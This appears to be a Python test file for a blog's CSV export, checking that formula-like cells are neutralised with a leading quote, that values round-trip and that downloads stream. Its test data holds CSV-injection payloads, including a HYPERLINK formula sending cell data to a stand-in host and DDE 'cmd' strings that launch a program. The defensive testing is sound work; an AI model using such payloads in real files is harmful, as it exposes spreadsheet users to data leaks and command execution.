"""Tables as CSV: what comes out is what went in, and nothing of it is a formula."""

import csv
import io
import json
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from flask import Flask
from hypothesis import given, settings
from hypothesis import strategies as st

from blog.sheets import download, lines, read
from tests.corpora import corpus

BEGINNINGS = tuple("=+-@\t\r＝＋－＠")

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1+1",
    "\N{IDEOGRAPHIC SPACE}＝1+1",
    "＋1",
    "-1",
    "'=1+1",
    "''",
]


def cells_of(*values: object) -> list[str]:
    """The cells of a row, as any program reads them."""
    text = "".join(lines(["a"] * len(values), [values]))  # type: ignore[list-item]
    return list(csv.reader(io.StringIO(text, newline="")))[1]


def strict_trim(text: str) -> str:
    return text.strip().strip("\N{ZERO WIDTH SPACE}\N{ZERO WIDTH NO-BREAK SPACE}\N{SOFT HYPHEN}")


def test_it_works() -> None:
    told = "".join(lines(["name", "number"], [["Alice", 3], ['says "no"', -2]]))
    assert told == '"name","number"\r\n"Alice","3"\r\n"says ""no""","-2"\r\n'


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_comes_behind_a_mark_and_can_be_read_back(text: str) -> None:
    (cell,) = cells_of(text)
    assert cell == f"'{text}"
    back = list(read(io.StringIO("".join(lines(["a"], [[text]])), newline="")))
    assert back == [["a"], [text]]


def test_a_column_named_like_a_formula_is_no_formula() -> None:
    assert next(lines(["=1+1"], [])) == '"\'=1+1"\r\n'


@settings(max_examples=100)
@given(rows=st.lists(st.lists(st.text(), min_size=1, max_size=4), max_size=5))
def test_whatever_text_there_is_comes_back_and_is_no_formula(rows: list[list[str]]) -> None:
    written = "".join(lines(["a"], rows))
    raw = list(csv.reader(io.StringIO(written, newline="")))[1:]
    assert not [cell for row in raw for cell in row if strict_trim(cell).startswith(BEGINNINGS)]
    assert not [cell for row in raw for cell in row if cell.startswith(BEGINNINGS)]
    assert list(read(io.StringIO(written, newline="")))[1:] == rows


def test_naughty_strings_come_back() -> None:
    texts = json.loads((corpus("strings") / "blns" / "blns.json").read_text())
    assert len(texts) > 300
    written = "".join(lines(["text"], ([text] for text in texts)))
    assert [row[0] for row in read(io.StringIO(written, newline=""))][1:] == texts


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "true"),
        (-5, "-5"),
        (10**30, "1" + "0" * 30),
        (Decimal("-1.50"), "-1.50"),
        (float("-inf"), "'-inf"),
        (date(2026, 1, 15), "2026-01-15"),
        (datetime(2026, 1, 15, 12, tzinfo=UTC), "2026-01-15T12:00:00+00:00"),
    ],
)
def test_numbers_and_times_are_themselves(value: object, cell: str) -> None:
    assert cells_of(value) == [cell]


def test_a_download_is_a_file_and_is_sent_while_it_is_read() -> None:
    app = Flask(__name__)
    taken: list[int] = []

    def rows() -> Iterator[list[int]]:
        for number in range(100_000):
            taken.append(number)
            yield [number]

    with app.test_request_context():
        response = download("numbers", ["number"], rows())
        assert next(iter(response.iter_encoded())).startswith(b'"number"\r\n"0"\r\n')
        assert len(taken) < 1_000
    assert response.headers["Content-Disposition"] == "attachment; filename=numbers.csv"
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"


def test_a_long_table_takes_no_more_memory_than_a_short_one() -> None:
    def peak(length: int) -> int:
        tracemalloc.start()
        for _ in lines(["number", "name"], ([number, "=name"] for number in range(length))):
            pass
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return most

    assert peak(20_000) < peak(200) + 50_000
